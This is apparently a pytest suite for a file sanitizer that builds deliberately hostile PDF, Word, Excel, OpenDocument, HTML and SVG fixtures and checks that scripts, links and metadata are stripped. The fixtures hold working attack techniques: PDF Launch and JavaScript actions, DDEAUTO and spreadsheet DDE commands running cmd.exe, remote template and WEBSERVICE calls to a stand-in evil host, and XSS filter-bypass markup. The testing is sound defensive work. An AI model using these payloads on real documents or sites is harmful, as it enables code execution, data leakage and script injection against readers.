"""Files made harmless. What came out is looked at by qpdf, poppler, exiftool, unzip and the libraries of others."""

import io
import json
import re
import subprocess
import zipfile

import docx
import lxml.html
import openpyxl
import pikepdf
import pytest
from PIL import Image

from filewright.converter.errors import CorruptInput, InputError, InvalidOptions, PasswordRequired
from filewright.converter.operations.orders import OrderedStep

FAR = "http://evil.example/x"


def run(*command):
    return subprocess.run(command, check=True, capture_output=True, timeout=60).stdout.decode("utf-8", "replace")


def packed(picture, kind, **more):
    buffer = io.BytesIO()
    picture.save(buffer, kind, **more)
    return buffer.getvalue()


def a_photo_of_secrets():
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"
    return packed(Image.new("RGB", (40, 30), "red"), "JPEG", exif=exif)


def note(subtype, **more):
    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9], **more)


def action(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name(kind), **more)


def an_evil_pdf(**save):
    """Two pages with text, and every way that we know for a PDF to do something."""
    pdf = pikepdf.new()
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    for number in (1, 2):
        page = pdf.add_blank_page(page_size=(400, 300))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(b"BT /F1 24 Tf 40 200 Td (Hello page %d) Tj ET" % number)
    script = action("/JavaScript", JS="app.alert('scripted')")
    first, second = (page.obj for page in pdf.pages)
    photo = pdf.make_stream(a_photo_of_secrets(), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=40,
                            Height=30, ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
                            Filter=pikepdf.Name.DCTDecode)  # fmt: skip
    first.Resources.XObject = pikepdf.Dictionary(Photo=photo)
    first.AA = pikepdf.Dictionary(O=script)
    first.PieceInfo = pikepdf.Dictionary(App=pikepdf.Dictionary(Private="private notes"))
    chained = action("/GoTo", D=[second, pikepdf.Name.Fit], Next=[action("/Launch", F="calc.exe")])
    button = pdf.make_indirect(
        note("/Widget", FT=pikepdf.Name.Btn, T="send", A=action("/SubmitForm", F=FAR), AA=pikepdf.Dictionary(D=script))
    )
    first.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                note("/Link", A=action("/URI", URI=FAR)),
                note("/Link", A=pdf.make_indirect(action("/Launch", F="calc.exe"))),
                note("/Link", A=chained),
                note("/Link", Dest=[second, pikepdf.Name.Fit]),
                note("/Screen", A=action("/Rendition")),
                button,
                note("/Text", Contents="a harmless remark"),
            ]
        )
    )
    pdf.attachments["payload.exe"] = b"MZ embedded payload"
    root = pdf.Root
    root.OpenAction = script
    root.AA = pikepdf.Dictionary(WC=script)
    root.URI = pikepdf.Dictionary(Base=FAR)
    root.Names.JavaScript = pikepdf.Dictionary(Names=["init", script])
    root.AcroForm = pikepdf.Dictionary(Fields=[button], XFA=pdf.make_stream(b"<xdp>script</xdp>"))
    pdf.docinfo["/Author"] = "Secret Author"
    with pdf.open_metadata() as xmp:
        xmp["dc:creator"] = ["Secret Author"]
    with pdf.open_outline() as outline:
        item = pikepdf.OutlineItem("leads away")
        item.action = action("/URI", URI=FAR)
        outline.root.extend([item, pikepdf.OutlineItem("page two", 1)])
    buffer = io.BytesIO()
    pdf.save(buffer, **save)
    pdf.close()
    return buffer.getvalue()


def objects_of(path):
    """Every object as qpdf shows it, and every stream unpacked."""
    plain = path.with_suffix(".plain.pdf")
    run("qpdf", "--qdf", "--object-streams=disable", path, plain)
    return plain.read_bytes()


async def test_a_pdf_keeps_its_words_and_loses_all_that_acts(made_of):
    [product] = await made_of("sanitize", an_evil_pdf(), "pdf")
    assert "Hello page 1" in run("pdftotext", product, "-")
    seen = objects_of(product)
    for word in (b"JavaScript", b"scripted", b"Launch", b"SubmitForm", b"evil.example", b"EmbeddedFile", b"payload",
                 b"Secret", b"XFA", b"xdp", b"/AA", b"OpenAction", b"Screen", b"private notes", b"/URI"):  # fmt: skip
        assert word not in seen, word
    assert "0 embedded files" in run("pdfdetach", "-list", product)
    assert "Author" not in run("exiftool", product)
    assert subprocess.run(["qpdf", "--check", product], check=False, capture_output=True).returncode == 0
    links = json.loads(run("qpdf", "--json", product))
    assert json.dumps(links).count('"/Link"') == 2, "links inside the document stay"
    assert b"a harmless remark" in seen
    assert b"page two" in seen


async def test_a_pdf_of_pixels_has_nothing_but_pictures(made_of):
    [product] = await made_of("sanitize", an_evil_pdf(), "pdf", options={"mode": "pixels", "dpi": 72})
    assert run("pdftotext", product, "-").strip() == ""
    assert len(run("pdfimages", "-list", product).splitlines()) == 2 + 2
    told = run("pdfinfo", product)
    assert re.search(r"Pages: +2\b", told)
    assert re.search(r"Page size: +400 x 300", told)
    assert b"evil.example" not in objects_of(product)


async def test_locked_and_broken_pdfs_are_named(made_of):
    locked = an_evil_pdf(encryption=pikepdf.Encryption(owner="o", user="u", R=6))
    with pytest.raises(PasswordRequired):
        await made_of("sanitize", locked, "pdf")
    [product] = await made_of("sanitize", locked, "pdf", password="u")
    assert b"JavaScript" not in objects_of(product)
    with pytest.raises(InputError):
        await made_of("sanitize", b"%PDF-1.7\n" + b"x" * 400, "pdf")
    with pytest.raises(InvalidOptions):
        await made_of("sanitize", an_evil_pdf(), "pdf", options={"mode": "magic"})


def with_parts(package, parts, replaced=()):
    """The package with more parts, and with words of some replaced: `replaced` is (part, old, new)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name).decode("utf-8") if name.endswith((".xml", ".rels")) else old.read(name)
            for part, before, after in replaced:
                if part == name:
                    assert before in content
                    content = content.replace(before, after, 1)
            new.writestr(name, content)
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def all_of(path):
    """Every part of a package, unpacked by unzip, as one text; and that it is whole."""
    run("unzip", "-tqq", path)
    return run("unzip", "-p", path), run("unzip", "-Z1", path)


_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_FIELD = (
    '<w:p><w:r><w:t>before </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def an_evil_docx():
    document = docx.Document()
    document.add_paragraph("Plain words stay.")
    document.core_properties.author = "Secret Author"
    buffer = io.BytesIO()
    document.save(buffer)
    body = (
        f'<w:p><w:hyperlink r:id="far" xmlns:r="{_R}"><w:r><w:t>linked words</w:t></w:r></w:hyperlink></w:p>'
        + _FIELD.format('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
        + _FIELD.format(f'INCLUDEPICTURE "{FAR}"')
        + _FIELD.format(" PAGE ")
        + f'<w:p><w:fldSimple w:instr="HYPERLINK &quot;{FAR}&quot;">'
        + "<w:r><w:t>simple words</w:t></w:r></w:fldSimple></w:p>"
    )
    relation = '<Relationship Id="{}" Type="{}/{}" Target="{}"{}/>'
    outside = ' TargetMode="External"'
    more = (
        relation.format("far", _R, "hyperlink", FAR, outside)
        + relation.format(
            "vba", "http://schemas.microsoft.com/office/2006/relationships", "vbaProject", "vbaProject.bin", ""
        )
        + relation.format("ole", _R, "oleObject", "embeddings/o.bin", "")
    )
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    to_template = relation.format("t", _R, "attachedTemplate", FAR, outside)
    template = f'<Relationships xmlns="{relations}">{to_template}</Relationships>'
    code = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    return with_parts(
        buffer.getvalue(),
        {
            "word/vbaProject.bin": b"macro code",
            "word/embeddings/o.bin": b"ole",
            "word/_rels/settings.xml.rels": template,
        },
        [
            ("word/document.xml", "<w:body>", f"<w:body>{body}"),
            ("word/_rels/document.xml.rels", "</Relationships>", f"{more}</Relationships>"),
            ("word/settings.xml", "<w:zoom", f'<w:attachedTemplate r:id="t" xmlns:r="{_R}"/><w:zoom'),
            ("[Content_Types].xml", "</Types>", f"{code}</Types>"),
        ],
    )


async def test_a_word_document_keeps_its_words_and_loses_what_acts_and_tells(made_of):
    [product] = await made_of("sanitize", an_evil_docx(), "docx")
    text, names = all_of(product)
    for word in ("evil.example", "DDEAUTO", "INCLUDEPICTURE", "Secret", "macro code", "attachedTemplate"):
        assert word not in text, word
    assert "vba" not in names.lower()
    assert "embeddings" not in names
    shown = "\n".join(paragraph.text for paragraph in docx.Document(product).paragraphs)
    for words in ("Plain words stay.", "linked words", "before shown", "simple words"):
        assert words in shown, words
    assert " PAGE " in text


async def test_a_document_with_macros_becomes_one_without(made_of):
    plain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    source = with_parts(an_evil_docx(), {}, [("[Content_Types].xml", plain, macros)])
    [product] = await made_of("sanitize", source, "docm")
    assert product.suffix == ".docx"
    assert "macroEnabled" not in all_of(product)[0]
    assert docx.Document(product).paragraphs


async def test_a_workbook_keeps_values_and_loses_ways_out(made_of):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"], sheet["A2"], sheet["A3"] = "kept", f'=WEBSERVICE("{FAR}")', "=SUM(B1:B2)"
    sheet["B1"], sheet["B2"] = 1, 2
    sheet["A1"].hyperlink = FAR
    sheet["A4"] = "=cmd|'/c calc'!A0"
    book.properties.creator = "Secret Author"
    buffer = io.BytesIO()
    book.save(buffer)
    [product] = await made_of("sanitize", buffer.getvalue(), "xlsx")
    text, names = all_of(product)
    for word in ("evil.example", "WEBSERVICE", "/c calc", "Secret"):
        assert word not in text, word
    assert "docProps" not in names
    again = openpyxl.load_workbook(product)
    assert again.active["A1"].value == "kept"
    assert again.active["A3"].value == "=SUM(B1:B2)"


async def test_slides_keep_their_words_and_lose_their_links(carry_out, tmp_path):
    source = tmp_path / "given.md"
    source.write_text(f"---\nauthor: Secret Author\n---\n# Title words\n\n[linked words]({FAR})\n")
    steps = [OrderedStep("convert", "pptx"), OrderedStep("sanitize")]
    [product] = (await carry_out([source], steps)).products
    text, names = all_of(product.path)
    for word in ("evil.example", "hlinkClick", "dc:creator"):
        assert word not in text, word
    assert "docProps" not in names
    assert "Title words" in text
    assert "linked words" in text


def an_evil_odt():
    names = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    )
    content = (
        f'<office:document-content {names} office:version="1.3"><office:scripts><office:event-listeners>'
        f'<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>'
        f"</office:event-listeners></office:scripts><office:body><office:text>"
        f'<text:p>Plain <text:a xlink:href="{FAR}">linked words</text:a> stay.</text:p>'
        f'<text:section text:name="s"><text:section-source xlink:href="{FAR}"/>'
        f"<text:p>in section</text:p></text:section>"
        f"</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" m:version="1.3">'
        '<m:file-entry m:full-path="/" m:media-type="application/vnd.oasis.opendocument.text"/>'
        '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/>'
        '<m:file-entry m:full-path="Basic/Standard/Module1.xml" m:media-type="text/xml"/></m:manifest>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", content)
        package.writestr("meta.xml", "<m>Secret Author</m>")
        package.writestr("Basic/Standard/Module1.xml", "<b>macro code</b>")
        package.writestr("META-INF/manifest.xml", manifest)
    return buffer.getvalue()


@pytest.mark.engine("libreoffice")
@pytest.mark.parametrize("kind", ["odt", "docx"])
async def test_an_office_program_still_opens_what_is_left(carry_out, made_of, tmp_path, kind):
    source = tmp_path / f"given.{kind}"
    source.write_bytes({"odt": an_evil_odt, "docx": an_evil_docx}[kind]())
    converted = await carry_out([source], [OrderedStep("sanitize"), OrderedStep("convert", "pdf")])
    shown = run("pdftotext", converted.products[0].path, "-")
    assert "linked words" in shown
    if kind == "odt":
        [product] = await made_of("sanitize", source, "odt")
        text, names = all_of(product)
        for word in ("evil.example", "Secret", "macro code", "event-listener"):
            assert word not in text, word
        assert names.splitlines()[0] == "mimetype"


PAGE = b"""<!DOCTYPE html><html><head><title>Title</title><script>alert(1)</script><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example"><link rel="stylesheet" href="http://evil.example/a.css">
<style>p { color: red }</style><style>@im\\70ort "http://evil.example/b.css"; p { margin: 0 }</style></head>
<body onload="alert(2)"><p style="background: u\\72l(http://evil.example/c.png)"
 onclick="x()">Plain
<a href="jAvascript:alert(3)">linked words</a> <a href="#here">inner</a> stay.</p><iframe src="http://evil.example"></iframe>
<img src="http://evil.example/d.png">
<img alt="dot" src="data:image/png;base64,iVBORw0KGgo="><svg><script>alert(4)</script></svg>
<math><mtext><style><img src=x onerror=alert(5)></style></mtext></math><form action="http://evil.example">
<input name="a"><b>form words</b></form>
<x-odd>odd words</x-odd>
<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>
<object data="evil.swf">gone</object></body></html>"""


async def test_a_web_page_shows_its_words_and_does_nothing(made_of):
    [product] = await made_of("sanitize", PAGE, "html")
    text = product.read_text(encoding="utf-8")
    for word in (
        "alert",
        "evil.",
        "script",
        "onload",
        "onclick",
        "onerror",
        "iframe",
        "<form",
        "<input",
        "import",
        "url(",
    ):
        assert word not in text.lower(), word
    for words in (
        "<title>Title</title>",
        "Plain",
        "linked words",
        'href="#here"',
        "form words",
        "odd words",
        "color: red",
    ):
        assert words in text, words
    assert "default-src 'none'" in text
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in text
    assert "Plain linked words inner stay." in " ".join(lxml.html.fromstring(text).text_content().split())


async def test_a_page_in_an_old_encoding_keeps_its_letters(made_of):
    words = "Привет мир, это обычный русский текст для проверки кодировки"
    [product] = await made_of("sanitize", f"<html><body><p>{words}</p></body></html>".encode("cp1251"), "html")
    assert words in product.read_text(encoding="utf-8")


async def test_a_drawing_is_drawn_as_before_and_does_nothing(made_of, tmp_path):
    drawing = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:i="http://inkscape" '
        b'width="20" height="10" onload="alert(1)"><metadata><i:who>Secret Author</i:who></metadata>'
        b'<script>alert(2)</script><image href="http://evil.example/a.png"/><rect width="20" height="10" fill="red"/>'
        b'<a id="a"><set attributeName="href" to="javascript:alert(3)"/><rect width="1" height="1"/></a></svg>'
    )
    [product] = await made_of("sanitize", drawing, "svg")
    text = product.read_text()
    for word in ("alert", "evil", "Secret", "script", "onload"):
        assert word not in text, word
    [shown] = await made_of("thumbnail", product, "svg")
    assert run("convert", shown, "-format", "%wx%h %[pixel:p{100,50}]", "info:").startswith("256x128 ")
    assert Image.open(shown).convert("RGB").getpixel((100, 50)) == (255, 0, 0)


@pytest.mark.parametrize("kind", ["jpg", "png", "gif", "webp", "tiff"])
async def test_a_picture_is_nothing_but_its_pixels(made_of, kind):
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"
    form = {"jpg": "JPEG"}.get(kind, kind.upper())
    more = {"comment": b"SecretCam"} if kind == "gif" else {"exif": exif}
    hidden = b"MZ hidden SecretCam payload"
    [product] = await made_of("sanitize", packed(Image.new("RGB", (40, 30), "red"), form, **more) + hidden, kind)
    assert b"SecretCam" not in product.read_bytes()
    assert "SecretCam" not in run("exiftool", product)
    assert run("identify", "-format", "%wx%h", product) == "40x30"


async def test_hostile_packages_are_named(made_of):
    entities = with_parts(
        an_evil_docx(), {}, [("word/document.xml", "<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document')]
    )
    with pytest.raises(CorruptInput):
        await made_of("sanitize", entities, "docx")
